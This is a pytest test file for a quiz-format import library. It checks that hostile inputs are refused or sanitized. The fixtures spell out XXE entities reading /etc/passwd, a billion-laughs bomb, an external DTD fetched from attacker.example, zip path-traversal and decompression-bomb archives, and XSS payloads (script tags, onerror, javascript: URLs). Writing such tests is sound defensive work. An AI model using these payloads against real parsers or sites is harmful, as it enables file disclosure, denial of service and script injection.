"""Hostile input: XML entity tricks, zip tricks, and script in question HTML."""

from __future__ import annotations

import io
import zipfile

import pytest

from quizzes.interop import qti, xmlsafe
from quizzes.interop.base import FormatError
from quizzes.interop.registry import get_exporter, get_importer
from quizzes.interop.sanitize import sanitize_html, sanitize_text
from tests.interop.sample_bank import PNG_1X1

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="truefalse"><name><text>&secret;</text></name></question></quiz>"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<quiz>&lol3;</quiz>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.example/evil.dtd">
<quiz/>"""

HOSTILE_XML = [
    ("external entity", EXTERNAL_ENTITY),
    ("billion laughs", BILLION_LAUGHS),
    ("external DTD", EXTERNAL_DTD),
]


@pytest.mark.parametrize("identifier", ["moodle-xml", "qti"])
@pytest.mark.parametrize(("case", "data"), HOSTILE_XML, ids=[c for c, _ in HOSTILE_XML])
def test_xml_with_a_dtd_is_refused(identifier: str, case: str, data: bytes) -> None:
    with pytest.raises(FormatError) as raised:
        get_importer(identifier).parse(data, filename="hostile.xml")
    assert str(raised.value) == f"hostile.xml: {xmlsafe.XML_DTD_FORBIDDEN}"


def test_malformed_xml_is_a_format_error() -> None:
    with pytest.raises(FormatError, match=xmlsafe.XML_NOT_WELL_FORMED):
        get_importer("moodle-xml").parse(b"<quiz><question></quiz>")


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


MANIFEST = b"""<?xml version="1.0"?>
<manifest xmlns="http://www.imsglobal.org/xsd/qti/qtiv3p0/imscp_v1p1"><resources/></manifest>"""

ZIP_TRICKS = [
    ("parent directory", {"imsmanifest.xml": MANIFEST, "../evil.xml": b"x"},
     qti.ZIP_TRAVERSAL.format(name="../evil.xml")),
    ("absolute path", {"imsmanifest.xml": MANIFEST, "/etc/cron.d/evil": b"x"},
     qti.ZIP_TRAVERSAL.format(name="/etc/cron.d/evil")),
    ("nested parent", {"imsmanifest.xml": MANIFEST, "items/../../evil.xml": b"x"},
     qti.ZIP_TRAVERSAL.format(name="items/../../evil.xml")),
]  # fmt: skip


@pytest.mark.parametrize(("case", "members", "message"), ZIP_TRICKS, ids=[c[0] for c in ZIP_TRICKS])
def test_zip_traversal_is_refused(case: str, members: dict[str, bytes], message: str) -> None:
    with pytest.raises(FormatError) as raised:
        get_importer("qti").parse(_zip(members))
    assert str(raised.value) == message


def test_zip_with_too_many_members_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(qti, "MAX_MEMBERS", 3)
    members = {f"m{n}.txt": b"" for n in range(4)}
    with pytest.raises(FormatError) as raised:
        get_importer("qti").parse(_zip(members))
    assert str(raised.value) == qti.ZIP_TOO_MANY_MEMBERS.format(count=4, limit=3)


def test_decompression_bomb_is_refused_before_extracting(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(qti, "MAX_TOTAL_BYTES", 1_000_000)
    bomb = _zip({"imsmanifest.xml": MANIFEST, "zeros.bin": b"\0" * 5_000_000})
    assert len(bomb) < 20_000
    with pytest.raises(FormatError) as raised:
        get_importer("qti").parse(bomb)
    assert str(raised.value) == qti.ZIP_TOO_LARGE.format(limit=1_000_000)


def test_member_larger_than_its_directory_entry_is_refused() -> None:
    data = bytearray(_zip({"imsmanifest.xml": MANIFEST, "big.txt": b"a" * 5000}))
    # Make the central directory (and local header) claim big.txt expands to 10 bytes.
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            name_offset = 46 if signature == b"PK\x01\x02" else 30
            if data[start + name_offset : start + name_offset + 7] == b"big.txt":
                data[start + offset : start + offset + 4] = (10).to_bytes(4, "little")
            start += 4
    with pytest.raises(FormatError) as raised:
        get_importer("qti").parse(bytes(data))
    assert str(raised.value).startswith(
        (qti.ZIP_SIZE_MISMATCH.format(name="big.txt"), qti.ZIP_DAMAGED.format(name="big.txt"))
    )


def test_unexpected_and_unreferenced_members_are_reported() -> None:
    package = get_exporter("qti").render(get_importer("gift").parse(b"Q? {T}").bank)
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["tools/run.exe"] = b"MZ"
    members["notes.txt"] = b"hello"
    result = get_importer("qti").parse(_zip(members))
    assert [w.message for w in result.warnings] == [
        qti.UNREFERENCED_MEMBER.format(name="notes.txt"),
        qti.EXECUTABLE_MEMBER.format(name="tools/run.exe"),
    ]
    assert len(result.bank.questions) == 1


# -- HTML ------------------------------------------------------------------------------------

SANITIZE_ROWS = [
    ("<p>ok</p><script>alert(1)</script>", "<p>ok</p>"),
    ('<img src="x.png" onerror="alert(1)">', '<img src="x.png">'),
    ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="https://example.org/">x</a>', '<a href="https://example.org/">x</a>'),
    ('<img src="@@PLUGINFILE@@/valve.png" alt="v">', '<img src="@@PLUGINFILE@@/valve.png" alt="v">'),  # noqa: E501
    (f'<img src="data:image/png;base64,{PNG_1X1}">', f'<img src="data:image/png;base64,{PNG_1X1}">'),  # noqa: E501
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "<a>x</a>"),
    ('<iframe src="https://evil.example"></iframe><p>t</p>', "<p>t</p>"),
    ('<p style="background:url(javascript:alert(1))">t</p>', "<p>t</p>"),
    ("<p>a &lt; b</p><!-- hidden -->", "<p>a &lt; b</p>"),
]  # fmt: skip


@pytest.mark.parametrize(("html", "expected"), SANITIZE_ROWS)
def test_sanitize_html(html: str, expected: str) -> None:
    assert sanitize_html(html) == expected
    assert sanitize_html(expected) == expected  # idempotent


@pytest.mark.parametrize(
    ("text", "text_format", "expected"),
    [
        ("MVA <= 1.5 cm2 & gradient > 10", "plain", "MVA <= 1.5 cm2 & gradient > 10"),
        ("x <script>alert(1)</script>", "plain", "x "),
        ("**bold** [link](javascript:alert(1))", "markdown", "**bold** [link](#)"),
    ],
)
def test_sanitize_text_by_format(text: str, text_format: str, expected: str) -> None:
    assert sanitize_text(text, text_format) == expected


HOSTILE_QUESTIONS = [
    ("gift", b'::T::[html]<p>Stem<script>alert(1)</script></p>{'
     b'=<img src\\="x" onerror\\="alert(1)">#<a href\\="javascript\\:alert(1)">fb</a> ~no}'),
    ("moodle-xml", b"""<quiz><question type="multichoice"><name><text>T</text></name>
<questiontext format="html"><text><![CDATA[<p>Stem<script>alert(1)</script></p>]]></text>
</questiontext><single>true</single>
<answer fraction="100"><text><![CDATA[<img src="x" onerror="alert(1)">]]></text>
<feedback><text><![CDATA[<a href="javascript:alert(1)">fb</a>]]></text></feedback></answer>
<answer fraction="0"><text>no</text></answer></question></quiz>"""),
]  # fmt: skip


@pytest.mark.parametrize(
    ("identifier", "data"), HOSTILE_QUESTIONS, ids=[r[0] for r in HOSTILE_QUESTIONS]
)
def test_script_never_survives_an_import(identifier: str, data: bytes) -> None:
    result = get_importer(identifier).parse(data)
    (question,) = result.bank.questions
    everything = " ".join([question.stem] + [o.text + o.feedback for o in question.options])
    for forbidden in ("<script", "onerror", "javascript:"):
        assert forbidden not in everything
    assert question.options[0].text == '<img src="x">'
